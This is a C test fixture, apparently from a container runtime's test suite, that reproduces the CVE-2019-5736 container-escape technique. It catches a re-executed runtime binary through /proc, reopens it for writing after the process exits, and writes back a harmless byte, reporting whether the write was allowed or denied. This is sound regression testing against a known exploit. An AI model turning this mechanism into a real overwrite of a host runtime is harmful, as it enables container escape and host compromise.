/* The CVE-2019-5736 attack, as a test fixture (built static by the test, run inside a container).
 *
 * Waits for a process whose /proc/PID/exe is neither its own binary nor busybox (that is: the runtime's
 * interpreter, exec'd again through an image's `#!/proc/self/exe`), opens that exe read-only while the process
 * lives, waits for it to exit, then reopens the file for writing through /proc/self/fd/N and writes its own first
 * byte back (harmless, but a write). Reports one line to the file argv[1]: CAUGHT/WROTE or CAUGHT/DENIED.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static void report(const char *path, const char *text) {
    FILE *f = fopen(path, "w");
    if (f) { fputs(text, f); fclose(f); }
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    char self[256] = {0};
    readlink("/proc/self/exe", self, sizeof self - 1);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            char link[64], target[256] = {0};
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            if (readlink(link, target, sizeof target - 1) < 0) continue;
            if (strcmp(target, self) == 0 || strstr(target, "busybox")) continue;
            int fd = open(link, O_RDONLY | O_CLOEXEC);
            if (fd < 0) continue;
            char first;
            if (pread(fd, &first, 1, 0) != 1) { close(fd); continue; }
            while (kill(pid, 0) == 0) {  /* the interpreter cannot start in the image: it exits soon */
                struct timespec ts = {0, 1000000};
                nanosleep(&ts, NULL);
            }
            char fdpath[64], line[512];
            snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", fd);
            for (int i = 0; i < 2000; i++) {
                int w = open(fdpath, O_WRONLY | O_CLOEXEC);
                if (w < 0 && errno == ETXTBSY) {  /* another process still runs that file */
                    struct timespec ts = {0, 1000000};
                    nanosleep(&ts, NULL);
                    continue;
                }
                if (w < 0) {
                    snprintf(line, sizeof line, "CAUGHT %s DENIED open %s\n", target, strerror(errno));
                } else if (pwrite(w, &first, 1, 0) != 1) {
                    snprintf(line, sizeof line, "CAUGHT %s DENIED write %s\n", target, strerror(errno));
                } else {
                    snprintf(line, sizeof line, "CAUGHT %s WROTE\n", target);
                }
                report(argv[1], line);
                return 0;
            }
            snprintf(line, sizeof line, "CAUGHT %s BUSY\n", target);
            report(argv[1], line);
            return 0;
        }
        if (d) closedir(d);
    }
}
